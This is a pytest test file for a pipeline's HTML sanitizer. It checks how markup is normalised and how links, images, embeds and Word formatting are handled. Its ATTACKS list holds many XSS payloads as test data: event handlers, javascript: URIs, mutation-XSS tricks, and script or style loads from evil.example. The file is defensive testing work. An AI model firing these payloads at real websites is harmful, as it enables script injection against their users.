"""Clean: the vocabulary that comes out, what becomes of messes, and that nothing dangerous or lost is among it."""

from __future__ import annotations

import re
from collections import Counter

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.documents import CleanDocument, Metadata, Original
from pipeline.errors import Permanent
from pipeline.stages import clean
from pipeline.stages.clean.addresses import embeddable, mend
from pipeline.stages.clean.vocabulary import ATTRIBUTES, BLOCKS, GLOBAL, INLINE
from pipeline.stages.intake.tree import body_of, names, parse, visible_text

OPTIONS = clean.Options(embed_hosts=("www.youtube-nocookie.com",))
XHTML = "{http://www.w3.org/1999/xhtml}"


def cleaned(html: str, **known) -> CleanDocument:
    """The clean document, after seeing that cleaning it again changes nothing."""
    document = clean.clean(Original(Metadata(**{"title": "T", **known}), html, "html"), OPTIONS)
    again = clean.clean(Original(document.metadata, document.body, "html"), OPTIONS)
    assert again == CleanDocument(document.metadata, document.body, ()), "cleaning what is clean changes nothing"
    return document


def body(html: str, **known) -> str:
    """The body without the line breaks between blocks."""
    return cleaned(html, **known).body.replace("\n", "")


def oracle(html: str):
    """The fragment as an independent HTML5 parser understands it."""
    return html5lib.parseFragment(html, namespaceHTMLElements=True)


class TestBlocks:
    @pytest.mark.parametrize(
        ("html", "expected"),
        [
            ("bare", "<p>bare</p>"),
            ("one<br><br>two<br>three<br><br><br>", "<p>one</p><p>two<br>three</p>"),
            ("<div>a<div>b</div>c</div>", "<p>a</p><p>b</p><p>c</p>"),
            ("<p>a</p> <p>&nbsp;</p><p><br></p><p></p> b", "<p>a</p><p>b</p>"),
            ("<h1>x</h1>y", "<h2>x</h2><p>y</p>"),
            ("<h2><div>x</div></h2>y", "<h2>x</h2><p>y</p>"),
            ("<b><div>a</div><div>b</div></b>", "<p><strong>a</strong></p><p><strong>b</strong></p>"),
            (
                "<a href='https://x.org/'><h3>t</h3><div>u</div></a>",
                '<h3><a href="https://x.org/">t</a></h3><p><a href="https://x.org/">u</a></p>',
            ),
            (
                "<blockquote cite='https://x.org/'>q</blockquote>",
                '<blockquote cite="https://x.org/"><p>q</p></blockquote>',
            ),
            ("<pre>\n\n  a\n <b>b</b>  \n</pre>", "<pre>  a <strong>b</strong></pre>"),
            ("<pre>a<br>b</pre>", "<pre>ab</pre>"),
            ("<details><summary>s</summary>t</details>", "<p>s</p><p>t</p>"),
            ("<section class='x'><p>a</p></section>", "<p>a</p>"),
            (
                "<div class=footnotes><ol><li id=fn1>a</ol></div>",
                '<section class="footnotes"><ol><li id="fn1">a</li></ol></section>',
            ),
            ("<div lang=fr><p>a</p>b</div>", '<div lang="fr"><p>a</p><p>b</p></div>'),
            ("<span lang=fr><div>a</div></span>", '<div lang="fr"><p>a</p></div>'),
            ("a<hr id=system-readmore>b", "<p>a</p><p>b</p>"),
            ("a<hr class=footnotes-sep>b", '<p>a</p><hr class="footnotes-sep"><p>b</p>'),
        ],
    )
    def test_come_in_their_normal_form(self, html, expected):
        assert body(html) == expected

    @pytest.mark.parametrize(
        ("html", "expected"),
        [
            ("<ul><li>a<li> <li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
            ("<ul><li>a</li><ul><li>b</li></ul></ul>", "<ul><li>a<ul><li>b</li></ul></li></ul>"),
            ("<ul>loose<li>a</ul>", "<ul><li>loose</li><li>a</li></ul>"),
            ("<li>a</li> <li>b</li>", "<ul><li>a</li><li>b</li></ul>"),
            ("<ul><li><div>a</div><div>b</div></ul>", "<ul><li><p>a</p><p>b</p></li></ul>"),
            ("<ol start=3 reversed type=a style='x'><li>a</ol>", '<ol reversed="" start="3" type="a"><li>a</li></ol>'),
            ("<dl><div><dt>t<dd>d</div></dl>", "<dl><dt>t</dt><dd>d</dd></dl>"),
            ("<ul></ul><p>x", "<p>x</p>"),
        ],
    )
    def test_lists_are_whole(self, html, expected):
        assert body(html) == expected

    @pytest.mark.parametrize(
        ("html", "expected"),
        [
            (
                "<table>out<caption>C</caption><tr><th scope=row>a<td colspan=2><p>b</p></table>",
                '<p>out</p><table><caption>C</caption><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr>'
                "</tbody></table>",
            ),
            ("<table><tr><td>only</table>", "<p>only</p>"),
            ("<table><td>a<td></table>", "<table><tbody><tr><td>a</td><td></td></tr></tbody></table>"),
            ("<table><tr><td>&nbsp;<td> </table>x", "<p>x</p>"),
            ("<tr><td>a</td><td>b</td></tr>", "<p>a</p><p>b</p>"),
            (
                "<table><tr><td>a<td><table><tr><td>x<td>y</table></table>",
                "<table><tbody><tr><td>a</td><td><table><tbody><tr><td>x</td><td>y</td></tr></tbody></table></td></tr>"
                "</tbody></table>",
            ),
        ],
    )
    def test_tables_are_whole(self, html, expected):
        assert body(html) == expected


class TestInline:
    @pytest.mark.parametrize(
        ("html", "expected"),
        [
            ("a <b>bold </b>c", "a <strong>bold</strong> c"),
            ("a<b> bold</b>c", "a <strong>bold</strong>c"),
            ("<b>a</b><b>b</b> <i></i>c", "<strong>ab</strong> c"),
            ("<b><strong>a</strong></b>", "<strong>a</strong>"),
            ("<font color=red>a</font>b <span style='color:x'>c</span>d", "ab cd"),
            ("<span style='font-weight: 700; font-style:italic'>a</span>", "<strong><em>a</em></strong>"),
            ("<b style='font-weight:normal'>a</b> b", "a b"),
            ("a<b>&nbsp;</b>b", "a&nbsp;b"),
            ("&nbsp;10&nbsp;km.<b>&nbsp;x&nbsp;</b>&nbsp;", "10&nbsp;km.<strong>&nbsp;x</strong>"),
            ("a<embed src=x>b<source>c<keygen>d", "abcd"),
            ("<span lang=PT-br>a</span>", '<span lang="pt-BR">a</span>'),
            ("<span lang='x y' dir=up>a</span>", "a"),
            ("<bdi translate=no>a</bdi>", '<bdi translate="no">a</bdi>'),
            ("<abbr title=' World  Day '>WD</abbr> <time datetime=2026-11-05>5</time>",
             '<abbr title="World Day">WD</abbr> <time datetime="2026-11-05">5</time>'),
            ("H<sub>2</sub>O <tt>x</tt> <strike>y</strike>", "H<sub>2</sub>O <code>x</code> <s>y</s>"),
            ("a &lt;b&gt; &amp;amp; c", "a &lt;b&gt; &amp;amp; c"),
            ("a<wbr>b<br> c", "a<wbr>b<br>c"),
            ("<a id=x></a>a", '<a id="x"></a>a'),
            ("x<!-- y --><![CDATA[z]]><?php echo 1 ?>", "x"),
        ],
    )  # fmt: skip
    def test_content_comes_in_its_normal_form(self, html, expected):
        assert body(f"<p>{html}</p>") == f"<p>{expected}</p>"

    def test_footnotes_survive_both_ways(self):
        html = (
            '<p>Word<sup class="footnote-ref"><a href="#fn1" id="fnref1">[1]</a></sup></p>'
            '<section class="footnotes"><ol class="footnotes-list"><li class="footnote-item" id="fn1">'
            '<p>Note <a class="footnote-backref" href="#fnref1">↩</a></p></li></ol></section>'
        )
        assert body(html) == html


class TestLinks:
    @pytest.mark.parametrize(
        ("href", "mended"),
        [
            ("https://x.org/a?b=1&c=2#d", "https://x.org/a?b=1&c=2#d"),
            ("http:/x.org", "http://x.org"),
            ("http//x.org/a", "http://x.org/a"),
            ("http://https://x.org", "https://x.org"),
            ("https:\\\\x.org\\a", "https://x.org/a"),
            ("//x.org/a", "https://x.org/a"),
            ("www.x.org/a b", "https://www.x.org/a%20b"),
            ("desk@x.org", "mailto:desk@x.org"),
            ("mailto:desk@x.org", "mailto:desk@x.org"),
            ("tel:+351123", "tel:+351123"),
            ("a/b.html", "a/b.html"),
            ("", ""),
            ("#", ""),
            ("http://", ""),
            ("http://[::1", ""),
            ("http://x.org:port/", ""),
            ("ftp://x.org/", ""),
            ("file:///C:/a.doc", ""),
            ("C:\\a.doc", ""),
            ("https://xn--a/", ""),
        ],
    )
    def test_are_mended_where_that_is_certain(self, href, mended):
        assert mend(href, "") == mended
        assert mend(mended, "") == mended

    def test_relative_ones_stand_on_the_articles_address(self):
        html = '<p><a href="../b">b</a> <img src="c.jpg" alt=""></p>'
        made = body(html, canonical_url="https://tidewater.example/news/a")
        assert 'href="https://tidewater.example/b"' in made
        assert 'src="https://tidewater.example/news/c.jpg"' in made
        assert 'href="../b"' in body(html)

    def test_to_places_that_are_not_there_are_taken_off(self):
        document = cleaned('<p><a href="#x">x</a> <a href="#y">y</a> <a href="#_ftn2">2</a> <b id=y>z</b></p>')
        assert document.body == '<p>x <a href="#y">y</a> <a href="#_ftn2">2</a> <strong id="y">z</strong></p>'
        assert document.notes == ("Removed a link to a place that is not in the article.",)

    def test_places_survive_the_element_that_named_them(self):
        assert body('<p><a href="#n">n</a></p><div id=n><p>z</p></div>') == '<p><a href="#n">n</a></p><p id="n">z</p>'
        assert body("<p id=n></p><p>z</p>") == '<p id="n">z</p>'

    def test_an_id_stands_once(self):
        assert body("<p id=a>x</p><p id=a>y</p>") == '<p id="a">x</p><p>y</p>'


class TestPictures:
    IMG = '<img alt="Volunteers on the quay" src="https://x.org/a.jpg">'

    @pytest.mark.parametrize(
        ("html", "expected"),
        [
            ("<p>{}</p>", "<figure>{}</figure>"),
            ("<p>{}The coast is long.</p>", "<figure>{}</figure><p>The coast is long.</p>"),
            ("<p>{}Volunteers on the quayThe coast.</p>", "<figure>{}</figure><p>The coast.</p>"),
            ("<p>{}Volunteers on the quay The coast.</p>", "<figure>{}</figure><p>The coast.</p>"),
            ("<p>{}</p><p>Volunteers on the quayThe coast.</p>", "<figure>{}</figure><p>The coast.</p>"),
            ("<p>{}Volunteers on the quay<br>The coast.</p>", "<figure>{}</figure><p>The coast.</p>"),
            ("<p>{}Volunteers on the quay row.</p>", "<figure>{}</figure><p>Volunteers on the quay row.</p>"),
            (
                "<p>{}</p><p>Volunteers on the quay</p>",
                "<figure>{}<figcaption>Volunteers on the quay</figcaption></figure>",
            ),
            ("<p>Before {} after.</p>", "<p>Before {} after.</p>"),
            ("<p>Before<br>{}<br>after.</p>", "<p>Before</p><figure>{}</figure><p>after.</p>"),
            ("<p>{} {}</p>", "<figure>{}</figure><figure>{}</figure>"),
            ("<figure><div>{}</div><figcaption><p>c</p><p>d</p></figcaption></figure>",
             "<figure>{}<figcaption>c<br>d</figcaption></figure>"),
            ("<div class=wp-caption>{}<p class=wp-caption-text>c</div>",
             "<figure>{}<figcaption>c</figcaption></figure>"),
            ("<figure><figcaption>only words</figcaption></figure>", "<p>only words</p>"),
            ("<picture><source srcset=b.webp>{}</picture>", "<figure>{}</figure>"),
            ("<noscript>{}</noscript>{}", "<figure>{}</figure>"),
        ],
    )  # fmt: skip
    def test_stand_in_figures_of_their_own(self, html, expected):
        assert body(html.replace("{}", self.IMG)) == expected.replace("{}", self.IMG)

    def test_small_ones_stay_in_the_text(self):
        icon = '<img alt="!" height="16" src="https://x.org/i.png" width="16">'
        assert body(f"<p>{icon} Careful</p>") == f"<p>{icon} Careful</p>"

    @pytest.mark.parametrize(
        ("img", "note"),
        [
            ('<img src="data:image/png;base64,AAAA" alt=x>', "embedded in the text"),
            ('<img src="https://t.example/p.gif" width=1 height=1>', "tracking pixel"),
            ('<img src="https://t.example/p.gif" style="width:1px;height:1px">', "tracking pixel"),
            ('<img src="file:///C:/x.png">', "without an address"),
        ],
    )
    def test_that_nobody_should_load_go_with_a_note(self, img, note):
        document = cleaned(f"<p>text {img}</p>")
        assert document.body == "<p>text</p>"
        assert note in document.notes[0]

    def test_loaded_late_are_found(self):
        html = '<img src="data:image/gif;base64,R0" data-src="https://x.org/real.jpg" alt="a">'
        assert body(html) == '<figure><img alt="a" src="https://x.org/real.jpg"></figure>'


class TestEmbeds:
    def test_of_allowed_hosts_stay(self):
        src = "//www.youtube-nocookie.com/embed/x"
        html = f'<p>a<iframe src="{src}" srcdoc="<b>" allowfullscreen width=560 onload=x></iframe>b'
        assert body(html) == (
            '<p>a</p><iframe allowfullscreen="" src="https://www.youtube-nocookie.com/embed/x" width="560"></iframe>'
            "<p>b</p>"
        )

    @pytest.mark.parametrize(
        "src",
        [
            "https://www.youtube-nocookie.com.evil.example/x",
            "https://www.youtube-nocookie.com@evil.example/x",
            "https://evil.example/www.youtube-nocookie.com",
            "https://www.youtube-nocookie.com:8443/x",
            "https://user@www.youtube-nocookie.com/x",
            "https://evil.example\\@www.youtube-nocookie.com/",
            "javascript:alert(1)//www.youtube-nocookie.com",
            "data:text/html,x",
            "/embed/x",
            "",
        ],
    )
    def test_of_others_become_links_or_go(self, src):
        assert embeddable(src, OPTIONS.embed_hosts) == ""
        document = cleaned(f'<p>text</p><iframe src="{src}" title="Map"></iframe>')
        assert "iframe" not in document.body
        assert len(document.notes) == 1
        if src.startswith("https:"):
            assert ">Map</a>" in document.body

    def test_video_and_sound_play_only_securely(self):
        source = '<source src="https://x.org/v.mp4" type="video/mp4">'
        html = f'<video autoplay poster="https://x.org/p.jpg">{source}Old browsers show this</video>'
        assert body(html) == f'<video controls="" poster="https://x.org/p.jpg">{source}</video>'
        assert body('<audio src="http://x.org/a.mp3"></audio>') == '<p><a href="http://x.org/a.mp3">x.org</a></p>'


class TestPlugins:
    @pytest.mark.parametrize(
        ("html", "expected"),
        [
            ("<p>{loadposition x}</p>", "<p>{loadposition x}</p>"),
            ("<p>a</p>{youtube}Ab_c-1{/youtube}<p>b</p>", "<p>a</p><p>{youtube}Ab_c-1{/youtube}</p><p>b</p>"),
            ("<p>{youtube}</p><p>Ab1</p><p>{/youtube}</p>", "<p>{youtube}Ab1{/youtube}</p>"),
            ("<p>x {youtube}<b>Ab</b>1{/youtube}</p>", "<p>x {youtube}Ab1{/youtube}</p>"),
            (
                "<p>{youtube}<a href='https://x.org/Ab1'>https://x.org/Ab1</a>{/youtube}</p>",
                "<p>{youtube}https://x.org/Ab1{/youtube}</p>",
            ),
            ("<p>{gallery}a/b<br><br>c{/gallery}</p>", "<p>{gallery}a/b c{/gallery}</p>"),
            ("<p>{load<i>position</i> x}</p>", "<p>{loadposition x}</p>"),
            ("<p>{ <b>not</b> a tag}</p>", "<p>{ <strong>not</strong> a tag}</p>"),
            ("<p>{slider One}</p><p>Long.</p><ul><li>x</ul>", "<p>{slider One}</p><p>Long.</p><ul><li>x</li></ul>"),
        ],
    )
    def test_stay_whole_and_in_one_block(self, html, expected):
        assert body(html) == expected


WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal {margin:0}</style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--></head>
<body lang=EN-GB>
<p class=MsoNormal style='margin-bottom:0cm;mso-line-height-rule:exactly'><b style='mso-bidi-font-weight:normal'><span
lang=EN-GB style='font-family:"Arial",sans-serif'>Boats<o:p></o:p></span></b></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal><span style='font-size:11.0pt'>The station <i><span>Northmouth</span></i> has<span
style='mso-spacerun:yes'>  </span>two&nbsp;boats:<o:p></o:p></span><a name="_GoBack"></a></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;
</span></span></span><![endif]>the first<o:p></o:p></p>
<p class=MsoListParagraphCxSpMiddle style='mso-list:l0 level2 lfo1'><![if !supportLists]><span
style='mso-list:Ignore'>o<span>
&nbsp; </span></span><![endif]>its dinghy</p>
<p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><!--[if !supportLists]--><span
style='mso-list:Ignore'>·<span>&nbsp; </span></span><!--[endif]-->the second</p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><span
style='mso-list:Ignore'>3.<span>&nbsp;</span></span>third</p>
<p class=MsoListParagraph style='margin-left:36pt'>No marker, no item<a style='mso-footnote-id:ftn1' href="#_ftn1"
name="_ftnref1"><span class=MsoFootnoteReference>[1]</span></a></p>
<div style='mso-element:footnote-list'><![if !supportFootnotes]><br clear=all>
<hr align=left size=1 width="33%"><![endif]>
<div style='mso-element:footnote' id=ftn1><p class=MsoFootnoteText><a
href="#_ftnref1" name="_ftn1">[1]</a> A note.</p></div>
</div></body></html>"""


class TestWord:
    def test_comes_out_as_if_it_had_been_written_here(self):
        document = cleaned(WORD, language="en")
        assert document.body.replace("\n", "") == (
            "<p><strong>Boats</strong></p>"
            "<p>The station <em>Northmouth</em> has two&nbsp;boats:</p>"
            "<ul><li>the first<ul><li>its dinghy</li></ul></li><li>the second</li></ul>"
            '<ol start="3"><li>third</li></ol>'
            '<p>No marker, no item<a href="#_ftn1" id="_ftnref1">[1]</a></p>'
            "<hr>"
            '<p><a href="#_ftnref1" id="_ftn1">[1]</a> A note.</p>'
        )
        assert "Removed Word's formatting from 11 paragraphs." in document.notes
        assert "Made 2 lists of Word's bullets." in document.notes
        for mess in ("mso", "Mso", "o:p", "style", "supportLists", "_GoBack", "w:"):
            assert mess not in document.body

    def test_typed_bullets_make_a_list_when_there_are_several(self):
        assert body("<p>·&nbsp;&nbsp; a</p><p>• b</p>c") == "<ul><li>a</li><li>b</li></ul><p>c</p>"
        assert body("<p>· a</p><p>b</p>") == "<p>· a</p><p>b</p>"


class TestNotes:
    def test_are_empty_when_nothing_was_done(self):
        assert cleaned("<p>A <strong>clean</strong> text.</p>").notes == ()

    def test_say_what_was_done(self):
        document = cleaned(
            "<p>x<script>1</script><style>p{}</style><input name=q><svg><path/></svg><b hidden>secret</b>"
            '<a href="javascript:1">y</a> <a href="www.x.org">z</a></p><object></object>'
        )
        assert document.body == '<p>xy <a href="https://www.x.org">z</a></p>'
        assert document.notes == (
            "Removed a script or other active content.",
            "Removed a style sheet.",
            "Removed a form control.",
            "Removed a drawing or formula (svg, math).",
            "Removed a part that no reader would have seen.",
            "Removed an embedded object.",
            "Removed a link that no reader may follow.",
            "Mended the address of a link or picture.",
        )


class TestFields:
    def test_become_plain_text_and_web_addresses(self):
        metadata = cleaned(
            "<p>x",
            title=" Boats &amp;amp; <b>nets</b>\n&lt;i&gt;here&lt;/i&gt; ",
            summary="5 &lt; 6<script>",
            language="PT_br",
            tags=("a", "<i>a</i>", " "),
            canonical_url="javascript:alert(1)",
            image="//x.org/a.jpg",
            slug="../../etc/Água",
        ).metadata
        assert metadata == Metadata(
            title="Boats & nets here",
            summary="5 < 6",
            language="pt-BR",
            tags=("a",),
            image="https://x.org/a.jpg",
            slug="etc-agua",
        )

    def test_a_language_that_is_none_is_left_for_the_flow(self):
        assert cleaned("<p>x", language="klingonese").metadata.language == "klingonese"


class TestRefusals:
    @pytest.mark.parametrize(
        "html", ["", "<p>&nbsp;</p>", "<script>x</script>", "<form><input></form>", "<p hidden>x</p>"]
    )
    def test_nothing_visible_is_refused(self, html):
        with pytest.raises(Permanent, match="Nothing that a reader would see"):
            cleaned(html)

    @pytest.mark.parametrize(
        "tag", ["div", "blockquote", "ul><li", "b", "q", "figure", "table><tr><td", "section class=footnotes"]
    )
    def test_depth_is_refused_and_never_lost_in_silence(self, tag):
        with pytest.raises(Permanent, match="deep"):
            cleaned(f"<{tag}>" * 4_000 + "deep")
        depth = 240 // (1 + tag.count("<"))
        assert "deep" in body(f"<{tag}>" * depth + "deep")


ATTACKS = '''
<script>alert(1)</script>x
<SCRIPT SRC=//evil.example/x.js></SCRIPT>x
<scr<script>ipt>alert(1)</scr</script>ipt>x
<img src=x onerror=alert(1)>x
<img src=x:x onerror="alert(1)">x
<img """><script>alert(1)</script>">x
<svg onload=alert(1)>x
<svg><script>alert(1)</script></svg>x
<svg><style><img src=x onerror=alert(1)></style></svg>x
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">x
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">x
<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>x
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>x
<noscript><p title="</noscript><img src=x onerror=alert(1)>">x
<template><img src=x onerror=alert(1)></template>x
<title><img src=x onerror=alert(1)></title>x
<textarea><p title="</textarea><img src=x onerror=alert(1)>">x
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>x
<plaintext><script>alert(1)</script>x
<iframe src="javascript:alert(1)"></iframe>x
<iframe srcdoc="<script>alert(1)</script>"></iframe>x
<iframe src="https://www.youtube-nocookie.com/x" srcdoc="<script>1</script>" onload=alert(1)></iframe>x
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>x
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&NewLine;script&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x6A;&#x61;vascript&#58;alert(1)">x</a>
<a href=" &nbsp; javascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="https://x.org/" onclick="alert(1)" style="x:expression(1)" target=_blank ping="//evil.example">x</a>
<a href="view-source:javascript:1">x</a><a href="blob:https://x.org/1">x</a>
<p style="background:url(javascript:alert(1))">x</p>
<style>@import "//evil.example/x.css";</style>x
<link rel=stylesheet href="//evil.example/x.css">x
<meta http-equiv=refresh content="0;url=javascript:alert(1)">x
<base href="//evil.example/">x
<object data="javascript:alert(1)"><param name=x value=y></object>x
<embed src="data:image/svg+xml,<svg onload=alert(1)>">x
<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>x
<input autofocus onfocus=alert(1)>x
<video poster="javascript:alert(1)" src=x onerror=alert(1)><source onerror=alert(1)></video>x
<audio src="data:audio/x,1" onerror=alert(1)></audio>x
<details open ontoggle=alert(1)>x</details>
<body onload=alert(1) background="javascript:alert(1)">x
<table background="javascript:alert(1)"><td background="javascript:alert(1)">x<td>y</table>
<isindex type=image src=1 onerror=alert(1)>x
<img srcset="javascript:alert(1) 1x" src="https://x.org/a.jpg" usemap="#m" longdesc="javascript:1">x
<q cite="javascript:alert(1)">x</q><blockquote cite="data:x">x</blockquote><del cite="vbscript:x">x</del>
<p id="x&quot; onmouseover=alert(1)" lang="en&quot; onload=1" class="x">x</p>
<b title='</b><script>alert(1)</script>'>x</b><img alt="`><script>alert(1)</script>" src="https://x.org/`a">
<!--><img src=x onerror=alert(1)>-->x
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->x
<![CDATA[<script>alert(1)</script>]]>x
<?xml-stylesheet href="javascript:alert(1)"?>x
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>x
&lt;script&gt;alert(1)&lt;/script&gt;
<p>\u2028<img src=x\x00 onerror=alert(1)>x
'''.strip().split("\n")


def faults(html: str) -> list[str]:
    """What in ``html`` is not of the vocabulary, as html5lib reads it."""
    found = []
    for element in oracle(html).iter():
        if not isinstance(element.tag, str):
            found.append("a comment")
            continue
        tag = element.tag.removeprefix(XHTML)
        if tag != "DOCUMENT_FRAGMENT" and tag not in INLINE | BLOCKS | {"source", "track"}:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            if name not in (*GLOBAL, *ATTRIBUTES.get(tag, ()), "class"):
                found.append(f"{tag}.{name}")
            scheme = re.match(r"[\x00-\x20]*([a-z][a-z0-9+.-]*):", value, re.IGNORECASE)
            if (
                name in ("href", "src", "cite", "poster")
                and scheme
                and scheme[1] not in ("http", "https", "mailto", "tel")
            ):
                found.append(f"{tag}.{name}={value}")
    return found


class TestAttacks:
    @pytest.mark.parametrize("html", ATTACKS)
    def test_leave_nothing_that_runs(self, html):
        document = cleaned(f"<p>Before</p>{html}")
        assert faults(document.body) == []
        assert "evil" not in document.body

    def test_the_inspection_itself_sees_what_runs(self):
        assert faults("<p onclick=x><a href='javascript:1'>x</a><script></script><!-- x -->") != []


def soup() -> st.SearchStrategy[str]:
    """Tag soup: any tags in any order, half of them closed, with words and messes between."""
    tags = sorted(
        names(
            "p div span b i em strong a ul ol li table tr td th tbody thead caption h1 h2 h3 blockquote figure "
            "figcaption keygen embed wbr "
            "pre code dl dt dd sup section br hr img q u font center article details o:p label form ruby"
        )
    )
    attributes = [
        "", "", "", " id=a", " id=b", " lang=fr", " dir=rtl", " style='font-weight:bold'", " class=footnotes",
        " class=MsoListParagraph", " class=wp-caption", " href='#a'", " href='https://x.org/'", " href='javascript:1'",
        " name=c", " translate=no", " src='https://x.org/i.png' alt=alpha",
    ]  # fmt: skip
    starts = st.builds("<{}{}>".format, st.sampled_from(tags), st.sampled_from(attributes))
    ends = st.builds("</{}>".format, st.sampled_from(tags))
    words = st.sampled_from(
        ["alpha", "beta ", "\u00a0", " ", "\n", "Gamma delta", "{youtube}", "{/youtube}", "{loadposition x}", "x < y",
         "&amp;lt;", "· \u00a0 item", "<br><br>", "<!-- c -->", "é", "سلام"]
    )  # fmt: skip
    return st.lists(st.one_of(starts, ends, words), max_size=40).map("".join)


def letters(html: str) -> Counter[str]:
    """The visible characters but white space, and but the bullets of which lists are made."""
    return Counter(re.sub(r"[\s·]", "", visible_text(body_of(parse(html, 400)).children)))


class TestProperties:
    @settings(max_examples=50, deadline=None)
    @given(soup())
    def test_cleaning_is_idempotent_loses_no_text_and_lets_nothing_through(self, html):
        """Cleaning what is clean changes nothing, every visible character stays, and an HTML5 parser agrees."""
        try:
            document = cleaned(html)
        except Permanent:
            assert not letters(html)
            return
        assert faults(document.body) == []
        expected = letters(html)
        assert letters(document.body) == expected
        read_elsewhere = "".join(oracle(document.body).itertext())
        assert Counter(re.sub(r"[\s·]", "", read_elsewhere)) == expected

    @settings(max_examples=30, deadline=None)
    @given(st.text(alphabet="<>/!-='\"&;#: \n{}abpixdvhref", max_size=120))
    def test_any_text_is_cleaned_or_refused(self, text):
        try:
            assert faults(cleaned(f"<p>word {text}").body) == []
        except Permanent:
            assert "hidden" in text or "style" in text

    @settings(max_examples=30, deadline=None)
    @given(st.text(max_size=60))
    def test_mending_an_address_twice_is_mending_it_once(self, address):
        once = mend(address, "https://tidewater.example/a/")
        assert mend(once, "https://tidewater.example/a/") == once

    @pytest.mark.parametrize(
        "html",
        [
            "<p>" + "w\xa0w " * 60_000,  # the gate's worst case: nh3 takes minutes for it in one piece
            "<p>" + "&amp;" * 150_000,
            "<b><i><u><s><del><ins><small><mark><sub><sup>" + "<div>a</div>" * 800,
            "<div>" * 250 + "<p>a</p>" * 1_000,
        ],
    )
    def test_hostile_texts_end(self, html):
        """These ended after minutes, or not at all, in drafts; pytest's own limit on time would tell."""
        assert len(body(html)) > 1_000


def test_what_stands_over_a_word_goes_into_brackets_after_it():
    assert body("<p>a <ruby>tide<rt>the daily rise</rt></ruby> here</p>") == "<p>a tide (the daily rise) here</p>"
    assert body("<p><ruby>海<rp>(</rp><rt>umi</rt><rp>)</rp></ruby></p>") == "<p>海(umi)</p>"
